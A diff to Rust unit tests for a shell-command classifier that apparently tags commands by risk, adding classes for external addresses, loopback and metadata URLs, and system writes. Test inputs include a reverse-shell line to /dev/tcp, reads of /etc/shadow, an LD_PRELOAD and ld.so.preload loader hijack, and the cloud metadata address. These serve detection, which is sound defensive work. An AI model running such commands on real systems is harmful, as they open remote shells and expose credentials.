@@ -138,12 +138,13 @@ fn what_cannot_be_read_is_said() {
     }
     assert!(read(&["sh", "-c"]).unread);
     assert!(read(&["env", "-S", "'open"]).unread);
+    assert!(!read(&["sh", "-c", "$X y"]).truncated);
     let long = "x".repeat(MAX_BYTES + 1);
-    assert!(read(&["ls", &long]).unread);
-    assert!(CommandReading::of(&vec!["ls"; MAX_WORDS + 1]).unread);
-    assert!(read(&["sh", "-c", &"ls;".repeat(MAX_STEPS + 1)]).unread);
+    assert!(read(&["ls", &long]).truncated);
+    assert!(CommandReading::of(&vec!["ls"; MAX_WORDS + 1]).truncated);
+    assert!(read(&["sh", "-c", &"ls;".repeat(MAX_STEPS + 1)]).truncated);
     let deep = (0..20).fold("id".to_owned(), |inner, _| format!("echo $({inner})"));
-    assert!(read(&["sh", "-c", &deep]).unread);
+    assert!(read(&["sh", "-c", &deep]).truncated);
 }
 
 #[test]
@@ -178,13 +179,18 @@ fn words_have_classes() {
         ),
         ("/app/*.log", &[C::Path, C::Expression]),
         ("https://x/y", &[C::Url]),
-        ("file:///etc/shadow", &[C::CredentialPath, C::Url]),
+        ("https://x.example/y", &[C::ExternalUrl]),
+        ("http://localhost/y", &[C::LoopbackUrl]),
+        ("http://169.254.169.254/", &[C::Metadata]),
+        ("file:///etc/shadow", &[C::CredentialPath, C::LoopbackUrl]),
         ("10.0.0.1", &[C::Address]),
         ("::1", &[C::Address]),
         ("[::1]:80", &[C::Address]),
         ("db:5432", &[C::Address]),
         ("root@10.0.0.1:/x", &[C::Address]),
-        ("/dev/tcp/1.2.3.4/80", &[C::Address]),
+        ("pool.example:3333", &[C::ExternalAddress]),
+        ("config/master.key", &[C::CredentialPath]),
+        ("/dev/tcp/1.2.3.4/80", &[C::ExternalAddress]),
         ("A=b", &[C::Word, C::Assignment]),
         ("LD_PRELOAD=/tmp/x.so", &[C::TemporaryPath, C::Loader]),
         ("select 1", &[C::Expression]),
@@ -209,12 +215,13 @@ fn redirections_and_code_have_classes() {
         classes("ls > /tmp/x"),
         [C::Output, C::TemporaryPath].into_iter().collect()
     );
+    assert!(classes("echo x >> /etc/ld.so.preload").contains(C::SystemOutput));
     assert_eq!(classes("ls 2>/dev/null"), ArgumentSet::default());
     assert_eq!(
         classes("cat < /etc/shadow"),
         [C::CredentialPath].into_iter().collect()
     );
-    assert!(classes("bash -i >& /dev/tcp/1.1.1.1/80").contains(C::Address));
+    assert!(classes("bash -i >& /dev/tcp/1.1.1.1/80").contains(C::ExternalAddress));
     assert!(classes("python3 -c 'import os'").contains(C::Code));
     assert!(classes("perl -ne 'print'").contains(C::Code));
     assert!(!classes("grep -e x").contains(C::Code));
